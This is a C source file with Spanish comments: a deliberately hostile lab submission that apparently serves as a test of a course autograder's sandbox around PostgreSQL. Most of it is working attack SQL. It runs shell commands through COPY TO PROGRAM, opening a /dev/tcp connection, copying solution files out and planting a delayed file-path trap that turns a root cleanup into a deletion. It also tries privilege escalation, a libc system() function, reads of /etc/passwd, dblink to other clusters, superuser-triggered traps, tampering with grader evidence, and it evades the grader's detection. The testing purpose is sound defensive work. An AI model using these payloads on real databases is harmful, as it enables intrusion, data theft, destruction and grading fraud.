/* bd_escapa.c — entrega hostil del laboratorio 12: con la cadena de conexión que le da el
 * calificador, intenta salir de la caja a través del PostgreSQL de la calificación.
 *
 * Cada ataque que pueda ejecutar algo en el servidor deja una marca fuera de la caja
 * (@MARCA@-<ataque> en /tmp del sistema: la caja tiene su propio /tmp); así la prueba
 * (autograder/pruebas/prueba-autograder.sh) sabe cuáles llegaron a ejecutarse. Además:
 *   - COPY … TO PROGRAM: un shell como el usuario del servidor, que abre una conexión con un
 *     servidor de fuera (127.0.0.1:@PUERTO@, en la red de la máquina), copia un archivo de la
 *     solución a /tmp y deja un proceso que, cuando el servidor ya paró, escribe
 *     DIR/ubicacion apuntando a @VICTIMA@ (lo que «postgres.sh borrar», como root, borraba);
 *   - escalar privilegios: ALTER ROLE … SUPERUSER, SET ROLE / SET SESSION AUTHORIZATION al
 *     superusuario, GRANT pg_execute_server_program, CREATE ROLE;
 *   - una función en lenguaje C (system de libc), lenguajes no confiables;
 *   - leer y escribir archivos del servidor: pg_read_file, lo_import, lo_export, COPY FROM/TO
 *     un archivo;
 *   - llegar a otro clúster (el de otra calificación: @OTRO@) con dblink y directamente;
 *   - escribir en las pruebas de cargo del calificador.
 * Lo que consigue lo imprime como «LOGRADO <ataque>»; no hace el trabajo del laboratorio.
 * Las rutas y marcas con @…@ las pone la prueba antes de compilar.
 *
 * libpq bloqueante, pero sin sus nombres (libpq_bloqueante en runner/medios.c): conecta con
 * PQconnectStart y PQconnectPoll dando vueltas y ejecuta con PQsendQuery y PQgetResult. Así los
 * ataques corren en las verificaciones, que es lo que se prueba; después la observación ve sus
 * poll en el hilo del bucle y el laboratorio no se califica.
 */
#include "curso/bd.h"

#include <libpq-fe.h>
#include <stdio.h>
#include <string.h>
#include <uv.h>

static PGconn *c;

/* Como PQconnectdb, sin su nombre: vueltas a PQconnectPoll (sin esperar), 3 s como mucho. */
static PGconn *conectar(const char *cadena)
{
    PGconn *x = PQconnectStart(cadena);
    PostgresPollingStatusType st = PGRES_POLLING_WRITING;
    uint64_t hasta = uv_hrtime() + 3000000000u;
    while (x != NULL && st != PGRES_POLLING_OK && st != PGRES_POLLING_FAILED && uv_hrtime() < hasta)
        st = PQconnectPoll(x);
    return x;
}

/* Como PQexec, sin su nombre: PQsendQuery y PQgetResult (que espera con poll). Devuelve el
 * primer resultado que no fue bien, o el último. */
static PGresult *ejecutar(PGconn *x, const char *sql)
{
    if (PQsendQuery(x, sql) == 0)
        return NULL;
    PGresult *r = NULL, *siguiente;
    while ((siguiente = PQgetResult(x)) != NULL) {
        ExecStatusType st = r != NULL ? PQresultStatus(r) : PGRES_COMMAND_OK;
        if (r != NULL && st != PGRES_COMMAND_OK && st != PGRES_TUPLES_OK) {
            PQclear(siguiente);
            continue;
        }
        PQclear(r);
        r = siguiente;
    }
    return r;
}
static char logrados[2048]; /* los ataques que el servidor aceptó, para el resumen */

/* Cada intento, en stderr; los logrados, además, en el resumen final de stdout. */
static void anotar(const char *ataque, int ok, const char *error)
{
    fprintf(stderr, "%s %s%s%s", ok ? "LOGRADO" : "RECHAZADO", ataque, ok ? "" : ": ",
            ok ? "\n" : error);
    if (ok && strlen(logrados) + strlen(ataque) + 2 < sizeof logrados) {
        strcat(logrados, " ");
        strcat(logrados, ataque);
    }
}

/* Ejecuta `sql`; imprime si el servidor lo aceptó. 1 si lo aceptó. */
static int intentar(const char *ataque, const char *sql)
{
    PGresult *r = ejecutar(c, sql);
    int ok = PQresultStatus(r) == PGRES_COMMAND_OK || PQresultStatus(r) == PGRES_TUPLES_OK;
    anotar(ataque, ok, PQerrorMessage(c));
    PQclear(r);
    return ok;
}

/* Prepara algo que por sí solo no es un ataque (crear una función en su propio esquema): no
 * cuenta como logrado; lo que cuenta es si alguien con más privilegios llega a ejecutarlo (la
 * marca en /tmp). */
static void preparar(const char *sql)
{
    PQclear(ejecutar(c, sql));
}

/* Deja la marca del ataque fuera de la caja si el servidor ejecuta programas. */
static void marca(const char *ataque)
{
    char sql[512];
    snprintf(sql, sizeof sql, "COPY (SELECT 1) TO PROGRAM 'touch /tmp/@MARCA@-%s'", ataque);
    intentar(ataque, sql);
}

/* Un segundo cliente hacia otra cadena: ¿se puede llegar? */
static void conectar_a(const char *ataque, const char *cadena)
{
    PGconn *o = conectar(cadena);
    anotar(ataque, PQstatus(o) == CONNECTION_OK, PQerrorMessage(o));
    PQfinish(o);
}

/* Nunca se llama: solo para que el programa «use» lo que pide el laboratorio. */
void nunca(bd_conexion_t *x);
void nunca(bd_conexion_t *x)
{
    bd_consultar(x, "SELECT 1", 0, NULL, NULL, NULL);
}

int main(int argc, char **argv)
{
    uv_loop_t bucle;
    uv_loop_init(&bucle);
    uv_run(&bucle, UV_RUN_DEFAULT);
    uv_loop_close(&bucle);
    if (argc < 2)
        return 2;
    c = conectar(argv[argc - 1]);
    if (PQstatus(c) != CONNECTION_OK) {
        fprintf(stderr, "basedatos: %s", PQerrorMessage(c));
        PQfinish(c);
        return 2;
    }
    /* La carpeta del socket y la de los datos: donde estaba DIR/ubicacion. */
    char dir[400] = "";
    snprintf(dir, sizeof dir, "%s", PQhost(c));
    char datos[400] = "";
    PGresult *d = ejecutar(c, "SHOW data_directory");
    if (PQresultStatus(d) == PGRES_TUPLES_OK && PQntuples(d) == 1)
        snprintf(datos, sizeof datos, "%s/..", PQgetvalue(d, 0, 0));
    PQclear(d);
    char sql[2048];
    snprintf(sql, sizeof sql,
             "COPY (SELECT 1) TO PROGRAM 'touch /tmp/@MARCA@-programa; "
             "bash -c \"exec 3<>/dev/tcp/127.0.0.1/@PUERTO@\" 2>/dev/null; "
             "cp @RAIZ@/solutions/12-base-de-datos/basedatos.c /tmp/@MARCA@-copia 2>/dev/null; "
             "mkdir -p /tmp/curso-bd.@MARCA@; "
             "nohup sh -c \"sleep 4; for d in %s %s; do echo /tmp/curso-bd.@MARCA@/../@VICTIMA@ > "
             "\\$d/ubicacion; done\" >/dev/null 2>&1 &'",
             dir, datos);
    intentar("programa", sql);
    marca("directo");

    /* Escalar: cada intento va seguido de otra marca. */
    if (intentar("superusuario", "ALTER ROLE CURRENT_USER SUPERUSER"))
        marca("tras-superusuario");
    PGresult *r = ejecutar(c, "SELECT rolname FROM pg_roles WHERE rolsuper LIMIT 1");
    char super[128] = "postgres";
    if (PQresultStatus(r) == PGRES_TUPLES_OK && PQntuples(r) == 1)
        snprintf(super, sizeof super, "%s", PQgetvalue(r, 0, 0));
    PQclear(r);
    snprintf(sql, sizeof sql, "SET ROLE \"%s\"", super);
    if (intentar("set-role", sql)) {
        marca("tras-set-role");
        intentar("reset", "RESET ROLE");
    }
    snprintf(sql, sizeof sql, "SET SESSION AUTHORIZATION \"%s\"", super);
    if (intentar("session-authorization", sql)) {
        marca("tras-session-authorization");
        intentar("reset", "RESET SESSION AUTHORIZATION");
    }
    if (intentar("grant", "GRANT pg_execute_server_program TO CURRENT_USER"))
        marca("tras-grant");
    intentar("crear-rol", "CREATE ROLE intruso SUPERUSER LOGIN PASSWORD 'x'");
    intentar("crear-base", "CREATE DATABASE intrusa");
    intentar("alter-system", "ALTER SYSTEM SET listen_addresses = '*'");

    /* Funciones que ejecutan código del sistema. */
    if (intentar("lenguaje-c", "CREATE FUNCTION sistema(cstring) RETURNS int AS 'libc.so.6', "
                               "'system' LANGUAGE c STRICT"))
        intentar("lenguaje-c-ejecuta", "SELECT sistema('touch /tmp/@MARCA@-lenguaje-c')");
    intentar("plperlu", "CREATE EXTENSION IF NOT EXISTS plperlu");
    intentar("plpython3u", "CREATE EXTENSION IF NOT EXISTS plpython3u");

    /* Archivos del servidor. */
    intentar("pg_read_file",
             "SELECT pg_read_file('@RAIZ@/solutions/12-base-de-datos/basedatos.c')");
    intentar("pg_ls_dir", "SELECT pg_ls_dir('/')");
    intentar("lo_import", "SELECT lo_import('/etc/passwd')");
    intentar("lo_export", "SELECT lo_export(lo_from_bytea(0, 'x'), '/tmp/@MARCA@-lo_export')");
    intentar("copy-to-archivo", "COPY (SELECT 1) TO '/tmp/@MARCA@-copy-to'");
    intentar("copy-from-archivo", "CREATE TEMP TABLE robo (x text); COPY robo FROM '/etc/passwd'");

    /* Otro clúster: el de otra calificación que corre a la vez. */
    if (intentar("dblink-extension", "CREATE EXTENSION IF NOT EXISTS dblink"))
        intentar("dblink-conecta", "SELECT dblink_connect('host=127.0.0.1 port=@OTRO_PUERTO@ "
                                   "user=curso dbname=curso')");
    intentar("postgres_fdw", "CREATE EXTENSION IF NOT EXISTS postgres_fdw");
    conectar_a("otro-tcp", "host=127.0.0.1 port=@OTRO_PUERTO@ user=curso dbname=curso "
                           "connect_timeout=2");
    conectar_a("otro-socket", "host=@OTRO_SOCKET@ port=@OTRO_PUERTO@ user=curso dbname=curso "
                              "connect_timeout=2");

    /* Que el calificador (superusuario) ejecute algo del programa al leer o escribir la base:
     * una vista usuarios con una función suya, un disparador suyo en la tabla del calificador
     * (que inserta filas sorpresa) y un operador «||» suyo para integer. Las funciones solo
     * pueden ejecutar programas si quien las llama es superusuario. */
    static const char *const TRAMPA =
        "CREATE OR REPLACE FUNCTION public.trampa(que text) RETURNS integer LANGUAGE plpgsql AS "
        "$$ BEGIN EXECUTE format('COPY (SELECT 1) TO PROGRAM %L', 'touch /tmp/@MARCA@-' || que); "
        "RETURN 1; EXCEPTION WHEN OTHERS THEN RETURN 1; END $$";
    preparar(TRAMPA);
#ifdef BD_RESET
    /* Con BD_RESET (bd_escapa_reset), donde la tabla es suya («filas»): una tabla de verdad con
     * un disparador que hace RESET ROLE antes de la trampa. Las filas sorpresa entraban por una
     * sesión del superusuario con SET ROLE a su papel, y RESET ROLE vuelve al papel de la
     * sesión: superusuario (revisión de la sesión 77). Una fila con id alto para que el
     * calificador vea empezar la fase secuencial (calif.texto) y 3 s de espera para que las
     * inserte. */
    preparar("CREATE TABLE IF NOT EXISTS public.usuarios (id integer, nombre text, correo text)");
    preparar(
        "CREATE OR REPLACE FUNCTION public.dispara_reset() RETURNS trigger LANGUAGE plpgsql "
        "AS $$ BEGIN RESET ROLE; PERFORM public.trampa('disparador-reset'); RETURN NEW; END $$");
    preparar("CREATE TRIGGER trampa_reset BEFORE INSERT ON public.usuarios FOR EACH ROW EXECUTE "
             "FUNCTION public.dispara_reset()");
    preparar("INSERT INTO public.usuarios (id, nombre, correo) SELECT 100000 + g, 'x', 'y' FROM "
             "generate_series(1, 1) AS g");
    preparar("SELECT pg_sleep(3)");
#endif
#ifdef BD_CAST
    /* Con BD_CAST (bd_escapa_cast), donde la tabla es suya: un tipo suyo, una conversión suya
     * de ese tipo a integer (AS ASSIGNMENT) y su tabla usuarios con id de ese tipo. El
     * disparador del calificador que apunta cada inserción (calif.texto, SECURITY DEFINER)
     * copiaba id a una columna integer, y la conversión ejecutaba la trampa como superusuario
     * (el adversario de la sesión 88). Ahora el papel solo define tablas, índices y
     * secuencias: el tipo y la conversión, si se crean, ya cuentan como logrados. */
    intentar("tipo", "CREATE TYPE public.tipo_trampa AS (v integer)");
    preparar("CREATE OR REPLACE FUNCTION public.convierte(public.tipo_trampa) RETURNS integer "
             "LANGUAGE plpgsql AS $$ BEGIN PERFORM public.trampa('cast'); RETURN ($1).v; END $$");
    intentar("cast", "CREATE CAST (public.tipo_trampa AS integer) WITH FUNCTION "
                     "public.convierte(public.tipo_trampa) AS ASSIGNMENT");
    preparar("CREATE TABLE IF NOT EXISTS public.usuarios (id public.tipo_trampa, nombre text, "
             "correo text)");
    preparar("INSERT INTO public.usuarios VALUES (ROW(100001)::public.tipo_trampa, 'x', 'y')");
#endif
    preparar("CREATE VIEW usuarios AS SELECT public.trampa('vista') AS id, 'x'::text AS nombre, "
             "'y'::text AS correo");
    preparar("CREATE OR REPLACE FUNCTION public.dispara() RETURNS trigger LANGUAGE plpgsql AS $$ "
             "BEGIN PERFORM public.trampa('disparador'); RETURN NEW; END $$");
#ifndef BD_RESET /* con BD_RESET la tabla es suya: ponerle un disparador no es un ataque */
    intentar("disparador", "CREATE TRIGGER trampa BEFORE INSERT ON usuarios FOR EACH ROW "
                           "EXECUTE FUNCTION public.dispara()");
#endif
    preparar("CREATE OR REPLACE FUNCTION public.une(integer, text) RETURNS text LANGUAGE plpgsql "
             "AS $$ BEGIN PERFORM public.trampa('operador'); RETURN $1::text || $2; END $$");
    preparar("CREATE OPERATOR public.|| (LEFTARG = integer, RIGHTARG = text, FUNCTION = "
             "public.une)");

    /* Las pruebas de cargo del calificador. */
    intentar("evidencia-update", "UPDATE calif_registro SET pid = pid + 1");
    intentar("evidencia-update-esquema", "UPDATE calif.registro SET pid = pid + 1");
    intentar("evidencia-insert", "INSERT INTO calif.registro (id) VALUES (1)");
    intentar("evidencia-texto", "DELETE FROM calif.texto");
    PQfinish(c);
    printf("ATAQUES LOGRADOS:%s\n", logrados[0] != '\0' ? logrados : " ninguno");
    fflush(stdout);
    return 0;
}
